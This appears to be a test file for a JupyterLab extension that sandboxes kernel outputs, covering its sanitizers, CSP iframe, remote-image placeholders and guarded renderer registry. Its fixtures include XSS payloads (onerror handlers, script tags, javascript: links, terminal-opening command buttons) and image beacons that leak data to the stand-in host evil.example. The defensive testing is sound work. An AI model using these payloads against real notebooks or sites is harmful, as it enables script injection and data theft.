/**
 * Output isolation: which outputs of a sandboxed kernel run where, hostile HTML through
 * the same chain the browser uses (JupyterLab's sanitizer, then the placeholders), and the
 * guarded registry end to end on a real DOM (happy-dom).
 */
import { document } from './dom';
import './assetHooks';

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import {
  MimeModel,
  OutputModel,
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import type { ISessionContext } from '@jupyterlab/apputils';
import type { KernelSpec } from '@jupyterlab/services';
import { marked } from 'marked';

import {
  FRAME_CSP,
  FRAME_SANDBOX,
  WRAPPER_CSP,
  frameDocument,
  wrapperDocument
} from '../src/outputs/frame';
import { GuardedRenderer, guardRendermime } from '../src/outputs/guard';
import { sessionIsSandboxed } from '../src/outputs/plugin';
import {
  MODEL_TEXT_MIME,
  hasActiveHtml,
  isSandboxedKernel,
  treatmentOf
} from '../src/outputs/policy';
import {
  PLACEHOLDER_CLASS,
  createModelTextSanitizer,
  createOutputSanitizer,
  placeholdRemote,
  wirePlaceholders
} from '../src/outputs/remote';

const PANDAS = `<div>
<style scoped>
    .dataframe tbody tr th:only-of-type { vertical-align: middle; }
</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>
<tbody><tr><th>0</th><td>1</td></tr></tbody></table>
</div>`;
const ONERROR = '<img src=x onerror="window.top.document.body.dataset.pwned=1">';

describe('which kernels are sandboxed', () => {
  test("aiide's kernelspec, by name", () => {
    assert.equal(isSandboxedKernel('aiide-python'), true);
  });
  test('any spec started by the sandbox provisioner, or that says so', () => {
    const prov = { metadata: { kernel_provisioner: { provisioner_name: 'aiide-sandbox' } } };
    assert.equal(isSandboxedKernel('course-python', prov), true);
    assert.equal(isSandboxedKernel('r', { metadata: { aiide: { sandboxed: true } } }), true);
  });
  test('plain kernels and unknown names are not', () => {
    assert.equal(isSandboxedKernel('python3', { metadata: {} }), false);
    assert.equal(isSandboxedKernel('python3', null), false);
    assert.equal(isSandboxedKernel('', null), false);
    assert.equal(isSandboxedKernel(undefined), false);
    const other = { metadata: { kernel_provisioner: { provisioner_name: 'local-provisioner' } } };
    assert.equal(isSandboxedKernel('python3', other), false);
  });
});

describe('the isolation decision', () => {
  const cases: [string, string, boolean, string][] = [
    ['text/html', PANDAS, true, 'sanitized'],
    ['text/html', ONERROR, true, 'frame'],
    ['text/html', '<script>document.write(1)</script>', true, 'frame'],
    ['text/html', '<div onclick="x()">a</div>', true, 'frame'],
    ['text/html', '<style>.x{color:red}</style><p class=x>styled</p>', true, 'frame'],
    ['text/html', '<svg><circle r=4 /></svg>', true, 'frame'],
    ['text/markdown', ONERROR, true, 'sanitized'],
    ['application/javascript', 'parent.x = 1', false, 'frame'],
    ['text/javascript', 'parent.x = 1', false, 'frame'],
    ['image/png', 'iVBOR', true, 'as-is'],
    ['image/jpeg', '/9j/', true, 'as-is'],
    ['image/svg+xml', '<svg onload="x()"/>', false, 'as-is'],
    ['text/plain', '<b>x</b>', true, 'as-is'],
    ['text/latex', '$x^2$', true, 'as-is'],
    [MODEL_TEXT_MIME, ONERROR, true, 'as-is'],
    ['application/vnd.jupyter.widget-view+json', '{}', false, 'text'],
    ['application/vnd.plotly.v1+json', '{}', false, 'frame'],
    ['application/vnd.bokehjs_exec.v0+json', '{}', false, 'frame'],
    ['application/vnd.vegalite.v5+json', '{}', true, 'sanitized']
  ];
  for (const [mime, data, safe, expected] of cases) {
    test(`${mime} ${data.slice(0, 30)} → ${expected}`, () => {
      assert.equal(treatmentOf(mime, data, safe), expected);
    });
  }
  test('pandas tables are not active (they render in place)', () => {
    assert.equal(hasActiveHtml(PANDAS), false);
    assert.equal(hasActiveHtml('<table><tr><td>onion=3</td></tr></table>'), false);
  });
});

describe('remote resources behind a click', () => {
  test('a remote image becomes a placeholder naming its host', () => {
    const html = placeholdRemote('<p><img src="https://evil.example/leak?d=1" alt="chart"></p>');
    assert.doesNotMatch(html, /<img/);
    assert.match(html, new RegExp(PLACEHOLDER_CLASS));
    assert.match(html, /Load image from evil\.example \(chart\)/);
  });
  test('relative and protocol-relative images too (a GET the user never chose)', () => {
    assert.doesNotMatch(placeholdRemote('<img src="/logout">'), /<img/);
    assert.doesNotMatch(placeholdRemote('<img src="//evil.example/x.png">'), /<img/);
    assert.doesNotMatch(placeholdRemote('<img srcset="https://evil.example/x.png 2x">'), /<img/);
  });
  test('inline images stay', () => {
    const html = placeholdRemote('<img src="data:image/png;base64,iVBORw0KGgo=">');
    assert.match(html, /<img src="data:image\/png/);
  });
  test('media with remote sources become one placeholder', () => {
    const html = placeholdRemote(
      '<video controls><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>'
    );
    assert.doesNotMatch(html, /<video|<audio|<source/);
    assert.equal(html.match(new RegExp(PLACEHOLDER_CLASS, 'g'))?.length, 2);
  });
  test('CSS that names a URL loses it; command links and form targets go', () => {
    const html = placeholdRemote(
      '<div style="background:url(https://evil.example/x)">a</div>' +
        '<button data-commandlinker-command="terminal:create-new">b</button>' +
        '<form action="https://evil.example"><input name=p></form>'
    );
    assert.doesNotMatch(html, /evil\.example|commandlinker|action=/);
  });
  test('nothing to rewrite: the string comes back as it was (no parsing)', () => {
    assert.equal(placeholdRemote(PANDAS), PANDAS);
  });
  test('a look-alike placeholder in an output inserts nothing on click', async () => {
    const host = document.createElement('div');
    const forged = encodeURIComponent('<img src=x onerror="alert(1)">');
    host.innerHTML = `<button class="${PLACEHOLDER_CLASS}" data-aiide-html="${forged}">x</button>`;
    wirePlaceholders(host, null);
    (host.querySelector('button') as HTMLElement).click();
    await new Promise(resolve => setTimeout(resolve, 0));
    assert.equal(host.querySelector('img'), null);
  });
  test('the element comes back on click', async () => {
    const host = document.createElement('div');
    host.innerHTML = placeholdRemote('<img src="https://example.org/cat.png" alt="cat">');
    wirePlaceholders(host, null);
    (host.querySelector(`.${PLACEHOLDER_CLASS}`) as HTMLElement).click();
    await new Promise(resolve => setTimeout(resolve, 0));
    assert.equal(host.querySelector('img')?.getAttribute('src'), 'https://example.org/cat.png');
  });
});

describe('sanitizers for sandboxed output and model text', () => {
  const output = createOutputSanitizer(new Sanitizer());
  const model = createModelTextSanitizer(new Sanitizer());
  const payloads = [
    ONERROR,
    '<script>parent.document.body.dataset.pwned=1</script>',
    '<a href="javascript:alert(1)">x</a>',
    '<img src="https://evil.example/leak?c=SECRET">',
    '<button data-commandlinker-command="terminal:create-new">open</button>'
  ];
  for (const dirty of payloads) {
    test(`inert: ${dirty.slice(0, 40)}`, () => {
      for (const html of [output.sanitize(dirty), model.sanitize(marked.parse(dirty) as string)]) {
        assert.doesNotMatch(html, /<script|\son\w+\s*=|javascript:|<img|commandlinker/i, html);
      }
    });
  }
  test('a Markdown image in model text is a placeholder', () => {
    const html = model.sanitize(marked.parse('![x](https://evil.example/t.png)') as string);
    assert.match(html, new RegExp(PLACEHOLDER_CLASS));
    assert.doesNotMatch(html, /<img/);
  });
  test('a pandas table survives the output sanitizer', () => {
    assert.match(output.sanitize(PANDAS), /<table[^>]*class="dataframe"/);
  });
});

describe('the frame', () => {
  test('carries its CSP first, then the output', () => {
    const doc = frameDocument('text/html', { 'text/html': ONERROR });
    assert.ok(doc.indexOf(FRAME_CSP) > 0 && doc.indexOf(FRAME_CSP) < doc.indexOf(ONERROR));
    assert.match(FRAME_CSP, /connect-src 'none'/);
    assert.match(FRAME_CSP, /img-src data: blob:/);
  });
  test('JavaScript runs with `element`; a closing tag in it cannot end the script', () => {
    const doc = frameDocument('application/javascript', {
      'application/javascript': 'element.textContent = "</script><b>x</b>"'
    });
    assert.match(doc, /var element = document\.getElementById\('aiide-output'\)/);
    assert.doesNotMatch(doc, /"<\/script><b>/);
  });
  test('sits in a wrapper whose policy admits only a srcdoc child', () => {
    const inner = frameDocument('text/html', { 'text/html': ONERROR });
    const doc = wrapperDocument(inner);
    assert.ok(doc.indexOf(WRAPPER_CSP) > 0 && doc.indexOf(WRAPPER_CSP) < doc.indexOf('<iframe'));
    assert.match(WRAPPER_CSP, /frame-src 'self'/);
    assert.match(WRAPPER_CSP, /default-src 'none'/);
    // The output is an attribute value of the wrapper, never markup of its own.
    assert.equal(doc.indexOf(ONERROR), -1);
    assert.match(doc, new RegExp(`sandbox="${FRAME_SANDBOX}"`));
    assert.equal(FRAME_SANDBOX, 'allow-scripts');
  });
  test('other types show their HTML, else their text, escaped', () => {
    const doc = frameDocument('application/x-thing', { 'text/plain': '<b>x</b>' });
    assert.match(doc, /&#60;b&#62;x/);
  });
});

describe('the guarded registry', () => {
  const output = (data: Record<string, string>): OutputModel =>
    new OutputModel({
      value: { output_type: 'display_data', data, metadata: {} },
      trusted: true
    });
  const registry = (sandboxed: boolean): RenderMimeRegistry => {
    const rm = new RenderMimeRegistry({
      initialFactories: standardRendererFactories,
      // As the lab's: Markdown is rendered, not shown as its source text.
      markdownParser: { render: async (source: string) => marked.parse(source) as string }
    });
    guardRendermime(rm, () => sandboxed);
    return rm;
  };

  test('plain kernels keep their renderers', () => {
    const rm = registry(false);
    assert.ok(!(rm.createRenderer('text/html') instanceof GuardedRenderer));
  });

  test('active HTML runs in a sandboxed frame without same-origin', async () => {
    const renderer = registry(true).createRenderer('text/html') as GuardedRenderer;
    await renderer.renderModel(output({ 'text/html': ONERROR }));
    assert.equal(renderer.treatment, 'frame');
    const frame = renderer.node.querySelector('iframe');
    assert.equal(frame?.getAttribute('sandbox'), 'allow-scripts');
    assert.match(frame?.getAttribute('srcdoc') ?? '', /onerror/);
    assert.equal(renderer.node.querySelector('img'), null);
  });

  test('JavaScript runs in a frame', async () => {
    const renderer = registry(true).createRenderer('application/javascript') as GuardedRenderer;
    await renderer.renderModel(output({ 'application/javascript': 'parent.x = 1' }));
    assert.equal(renderer.treatment, 'frame');
    assert.equal(renderer.node.querySelectorAll('script').length, 0);
  });

  test('a pandas table renders in place, sanitized', async () => {
    const renderer = registry(true).createRenderer('text/html') as GuardedRenderer;
    await renderer.renderModel(output({ 'text/html': PANDAS }));
    assert.equal(renderer.treatment, 'sanitized');
    assert.ok(renderer.node.querySelector('table.dataframe'));
    assert.equal(renderer.node.querySelector('iframe'), null);
  });

  test('Markdown from the kernel renders in place with the image behind a click', async () => {
    const renderer = registry(true).createRenderer('text/markdown') as GuardedRenderer;
    await renderer.renderModel(output({ 'text/markdown': `# Hi\n\n${ONERROR}` }));
    assert.equal(renderer.treatment, 'sanitized');
    assert.equal(renderer.node.querySelector('img'), null);
    assert.doesNotMatch(renderer.node.innerHTML, /onerror/);
  });

  test('a non-output render (a Markdown cell) is left as it was', async () => {
    const renderer = registry(true).createRenderer('text/markdown') as GuardedRenderer;
    await renderer.renderModel(new MimeModel({ data: { 'text/markdown': '*hi*' }, trusted: true }));
    assert.equal(renderer.treatment, 'as-is');
  });

  test("the registry's own sanitizer holds remote images back while sandboxed", () => {
    // JupyterLab parses HTML outputs for table-of-contents headings with it, in the page.
    const html = '<h1>T</h1><img src="https://evil.example/x.png">';
    assert.doesNotMatch(registry(true).sanitizer.sanitize(html), /<img/);
    assert.match(registry(true).sanitizer.sanitize(html), new RegExp(PLACEHOLDER_CLASS));
    assert.match(registry(false).sanitizer.sanitize(html), /<img/);
    assert.doesNotMatch(registry(true).clone().sanitizer.sanitize(html), /<img/);
  });

  test("a Markdown cell keeps its author's remote images", async () => {
    const renderer = registry(true).createRenderer('text/markdown') as GuardedRenderer;
    const md = '![x](https://example.org/x.png)';
    await renderer.renderModel(new MimeModel({ data: { 'text/markdown': md }, trusted: false }));
    assert.equal(renderer.treatment, 'as-is');
    assert.ok(renderer.node.querySelector('img[src="https://example.org/x.png"]'));
  });

  test('clones stay guarded', () => {
    const clone = registry(true).clone();
    assert.ok(clone.createRenderer('text/html') instanceof GuardedRenderer);
  });
});

describe('which sessions are sandboxed', () => {
  const specs = {
    specs: {
      default: 'python3',
      kernelspecs: {
        'course-py': { metadata: { kernel_provisioner: { provisioner_name: 'aiide-sandbox' } } },
        python3: { metadata: {} }
      }
    }
  } as unknown as KernelSpec.IManager;
  const session = (kernel: string | undefined, preference?: string): ISessionContext =>
    ({
      session: kernel ? { kernel: { name: kernel } } : null,
      kernelPreference: { name: preference }
    }) as unknown as ISessionContext;

  test("the running kernel's spec decides", () => {
    assert.equal(sessionIsSandboxed(session('course-py'), specs), true);
    assert.equal(sessionIsSandboxed(session('python3'), specs), false);
  });
  test('before a kernel runs: the kernel it is starting, or the saved kernelspec', () => {
    assert.equal(sessionIsSandboxed(session(undefined, 'aiide-python'), specs), true);
    assert.equal(sessionIsSandboxed(session(undefined), specs, 'aiide-python'), true);
    assert.equal(sessionIsSandboxed(session(undefined), null), false);
  });
});
